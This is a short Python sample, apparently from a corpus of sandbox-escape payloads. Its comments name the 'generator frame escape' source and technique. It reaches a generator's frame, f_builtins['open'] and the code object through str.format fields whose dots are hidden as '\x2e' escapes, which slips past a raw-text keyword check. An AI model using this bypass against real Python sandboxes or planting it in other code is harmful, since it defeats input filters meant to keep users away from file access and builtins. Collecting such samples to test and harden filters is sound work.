# source: pyjail generator-frame escape (gen.gi_frame.f_builtins / gi_code), e.g. CTF write-ups "gi_frame.f_back"; adapted to str.format attribute reads
# family: format-field hidden by "\x2e" escape; the frame-attribute string check looks at raw text ("x2egi_frame" is not the word gi_frame)
# goal: generator frame object, frame.f_builtins['open'], code object (reprs)
def gen():
    yield 1
g = gen()
print("{0\x2egi_frame}".format(g))
print("{0\x2egi_frame\x2ef_builtins[open]}".format(g))
print("{0\x2egi_code}".format(g))
